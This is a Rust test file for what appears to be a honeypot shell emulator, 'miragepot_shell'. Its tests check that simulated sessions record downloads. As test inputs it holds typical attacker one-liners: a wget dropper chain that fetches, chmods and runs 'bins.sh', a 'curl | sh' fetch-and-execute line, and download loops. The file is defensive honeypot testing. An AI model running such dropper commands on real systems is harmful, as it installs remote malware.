//! The download tools inside whole sessions: the corpus-style dropper chain in exec mode
//! (the fetched script's own `wget`s run too) and `curl | sh`.

// Test code: a failed expectation should panic with its message.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::sync::Arc;

use miragepot_shell::{Download, Mode, Observation, Persona, SessionConfig, Shell, ShellLimits};
use time::OffsetDateTime;

fn now() -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(1_763_730_000).expect("time")
}

fn shell() -> Shell {
    let config = SessionConfig {
        user: "root".into(),
        mode: Mode::Exec,
        src_ip: "203.0.113.9".into(),
        src_port: 50022,
        env: vec![],
        seed: 7,
        limits: ShellLimits::default(),
    };
    Shell::new(Arc::new(Persona::debian12()), config, now())
}

fn downloads(obs: &[Observation]) -> Vec<Download> {
    obs.iter()
        .filter_map(|o| match o {
            Observation::Download(d) => Some(d.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn dropper_chain_fetches_the_script_and_its_binaries() {
    let mut sh = shell();
    let step = sh.exec(
        "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
        now(),
    );
    let d = downloads(&step.observations);
    assert!(d.len() >= 4, "{d:?}");
    assert_eq!(d[0].url, "http://198.51.100.7/bins.sh");
    assert_eq!(d[0].destination.as_deref(), Some("/tmp/bins.sh"));
    assert_eq!(d[0].outcome, "saved");
    // The script's own wgets reach the same host for one binary per architecture.
    assert!(
        d[1..]
            .iter()
            .all(|x| x.tool == "wget" && x.host == "198.51.100.7")
    );
    assert!(d[1..].iter().any(|x| x.outcome == "saved"));
    assert!(step.pace_ms > 0);
    let err = String::from_utf8_lossy(&step.err);
    assert!(
        err.starts_with("--2025-11-21 13:00:00--  http://198.51.100.7/bins.sh\n"),
        "{err}"
    );
    // The script removed its binaries and itself.
    let step = sh.exec("ls /tmp/bins.sh", now());
    assert_eq!(step.exit, Some(2));
}

#[test]
fn curl_pipe_sh_runs_the_body() {
    let mut sh = shell();
    let step = sh.exec("cd /tmp && curl -s http://198.51.100.7/bins.sh | sh", now());
    let d = downloads(&step.observations);
    assert_eq!(d[0].tool, "curl");
    assert_eq!(d[0].outcome, "stdout");
    assert!(d.len() > 1, "{d:?}");
    assert!(d[1..].iter().all(|x| x.tool == "wget"));
}

#[test]
fn endless_download_loops_end_on_the_line_budget() {
    let mut sh = shell();
    let step = sh.exec(
        "while true; do wget -O /dev/null http://dl.example.com/x86_64 2>/dev/null; done",
        now(),
    );
    let d = downloads(&step.observations);
    assert!(d.iter().any(|x| x.outcome == "saved"));
    // The line simulated far more than the pacing cap; the delay sent back is the cap.
    assert_eq!(
        step.pace_ms,
        miragepot_shell::Persona::debian12().timing.line_cap_ms
    );
    let step = sh.exec(
        "for i in $(seq 1 2000); do wget -q -O /dev/null http://dl.example.com/x86_64; done; echo $?",
        now(),
    );
    assert_eq!(String::from_utf8_lossy(&step.out), "4\n");
    let step = sh.exec("wget -q http://dl.example.com/x86_64; echo $?", now());
    assert_eq!(String::from_utf8_lossy(&step.out), "0\n");
    assert_eq!(downloads(&step.observations)[0].outcome, "saved");
}
